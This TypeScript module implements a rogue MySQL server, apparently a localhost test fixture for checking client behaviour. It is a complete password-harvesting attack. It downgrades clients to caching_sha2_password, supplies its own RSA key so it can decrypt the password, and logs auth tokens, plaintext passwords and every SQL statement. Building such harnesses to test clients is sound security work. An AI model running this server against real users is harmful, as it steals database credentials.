/**
 * A MySQL server that an attacker runs to collect passwords. It greets as
 * MySQL 8 with caching_sha2_password, asks for full authentication, and
 * when the client asks for the server's RSA public key (what a client does
 * without TLS) hands it its own: the client then sends the password
 * encrypted to that key, and the rogue decrypts it. Clients that start with
 * mysql_native_password are switched to caching_sha2_password first. It
 * records the scrambled token of the first step as well, accepts the login
 * and records every statement, answering each with an error. Packets as in
 * MySQL's client/server protocol documentation.
 */
import { generateKeyPairSync, privateDecrypt, constants as rsa } from "node:crypto";
import { createServer, type Socket } from "node:net";
import { type RogueLog, type RogueServer, rogueLog } from "./rogue-record.ts";

const CAPABILITIES =
  0x1 | // long password
  0x2 | // found rows
  0x4 | // long flag
  0x8 | // connect with db
  0x200 | // protocol 4.1
  0x2000 | // transactions
  0x8000 | // secure connection
  0x20000 | // multi results
  0x80000 | // plugin auth
  0x200000; // plugin auth data as a length-encoded string

const PLUGIN = "caching_sha2_password";
const COM_QUIT = 0x01;
const COM_QUERY = 0x03;

export async function startRogueMysql(): Promise<RogueServer> {
  const log = rogueLog();
  const { publicKey, privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
  const publicPem = publicKey.export({ type: "spki", format: "pem" }).toString();
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    socket.on("error", () => undefined);
    log.record({ kind: "connection", what: "mysql" });
    serve(socket, log, {
      publicPem,
      decrypt: (data) => privateDecrypt(decryption(privateKey), data),
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("no port");
  return {
    host: "127.0.0.1",
    port: address.port,
    events: log.events,
    captured: log.captured,
    close: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

function decryption(key: ReturnType<typeof generateKeyPairSync>["privateKey"]) {
  return { key, padding: rsa.RSA_PKCS1_OAEP_PADDING, oaepHash: "sha1" };
}

type Stage = "handshake" | "switched" | "full-auth" | "key-sent" | "commands";

function serve(
  socket: Socket,
  log: RogueLog,
  keys: { publicPem: string; decrypt(data: Buffer): Buffer },
): void {
  const scramble = Buffer.from("0123456789abcdefghij", "latin1");
  let stage: Stage = "handshake";
  let user = "";
  let buffer = Buffer.alloc(0);
  const send = (sequence: number, payload: Buffer) => {
    const header = Buffer.alloc(4);
    header.writeUIntLE(payload.length, 0, 3);
    header.writeUInt8(sequence & 0xff, 3);
    socket.write(Buffer.concat([header, payload]));
  };
  send(0, greeting(scramble));

  socket.on("data", (chunk: Buffer) => {
    buffer = Buffer.concat([buffer, chunk]);
    while (buffer.length >= 4) {
      const length = buffer.readUIntLE(0, 3);
      if (buffer.length < 4 + length) return;
      const sequence = buffer.readUInt8(3);
      const payload = buffer.subarray(4, 4 + length);
      buffer = buffer.subarray(4 + length);
      const reply = (data: Buffer) => send(sequence + 1, data);

      if (stage === "handshake") {
        const response = handshakeResponse(payload);
        user = response.user;
        log.record(
          { kind: "credential", what: `${response.plugin} token of ${user}` },
          response.token.toString("hex"),
        );
        if (response.plugin === PLUGIN) {
          stage = "full-auth";
          reply(Buffer.from([0x01, 0x04])); // perform full authentication
        } else {
          stage = "switched";
          reply(Buffer.concat([Buffer.from([0xfe]), zString(PLUGIN), scramble, Buffer.from([0])]));
        }
      } else if (stage === "switched") {
        stage = "full-auth";
        reply(Buffer.from([0x01, 0x04]));
      } else if (stage === "full-auth") {
        if (payload.length === 1 && payload[0] === 0x02) {
          stage = "key-sent";
          reply(Buffer.concat([Buffer.from([0x01]), Buffer.from(keys.publicPem)]));
        } else {
          // A client on a "secure" link sends the password as is.
          log.record({ kind: "credential", what: `password of ${user}` }, cString(payload));
          stage = "commands";
          reply(ok());
        }
      } else if (stage === "key-sent") {
        const plain = keys.decrypt(payload);
        for (let i = 0; i < plain.length; i++) {
          plain[i] = (plain[i] as number) ^ (scramble[i % scramble.length] as number);
        }
        log.record({ kind: "credential", what: `password of ${user}` }, cString(plain));
        stage = "commands";
        reply(ok());
      } else if (payload[0] === COM_QUERY) {
        const text = payload.subarray(1).toString("utf8");
        log.record({ kind: "statement", what: text.split(/\s+/, 1)[0] ?? "" }, text);
        reply(error());
      } else if (payload[0] === COM_QUIT) {
        socket.end();
        return;
      } else {
        reply(error());
      }
    }
  });
}

function greeting(scramble: Buffer): Buffer {
  const parts: Buffer[] = [];
  const u16 = (value: number) => {
    const b = Buffer.alloc(2);
    b.writeUInt16LE(value & 0xffff, 0);
    return b;
  };
  const connectionId = Buffer.alloc(4);
  connectionId.writeUInt32LE(7, 0);
  parts.push(Buffer.from([10]), zString("8.0.36-rogue"), connectionId);
  parts.push(scramble.subarray(0, 8), Buffer.from([0]));
  parts.push(u16(CAPABILITIES), Buffer.from([0x21]), u16(0x0002), u16(CAPABILITIES >>> 16));
  parts.push(Buffer.from([scramble.length + 1]), Buffer.alloc(10));
  parts.push(scramble.subarray(8), Buffer.from([0]), zString(PLUGIN));
  return Buffer.concat(parts);
}

/** The login name, the first auth token and the plugin a HandshakeResponse41 names. */
function handshakeResponse(payload: Buffer): { user: string; token: Buffer; plugin: string } {
  const flags = payload.readUInt32LE(0);
  let at = 32;
  const userEnd = payload.indexOf(0, at);
  const user = payload.subarray(at, userEnd).toString("utf8");
  at = userEnd + 1;
  // One length byte either way: a length-encoded integer under 251 is that byte.
  const tokenLength = payload[at] as number;
  at += 1;
  const token = payload.subarray(at, at + tokenLength);
  at += tokenLength;
  if (flags & 0x8) at = payload.indexOf(0, at) + 1; // database
  const plugin = flags & 0x80000 ? cString(payload.subarray(at)) : "mysql_native_password";
  return { user, token, plugin };
}

function ok(): Buffer {
  return Buffer.from([0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00]);
}

function error(): Buffer {
  const errno = Buffer.alloc(2);
  errno.writeUInt16LE(1105, 0);
  return Buffer.concat([Buffer.from([0xff]), errno, Buffer.from("#HY000not a real database")]);
}

function zString(text: string): Buffer {
  return Buffer.concat([Buffer.from(text, "utf8"), Buffer.from([0])]);
}

function cString(body: Buffer): string {
  const end = body.indexOf(0);
  return body.subarray(0, end < 0 ? body.length : end).toString("utf8");
}
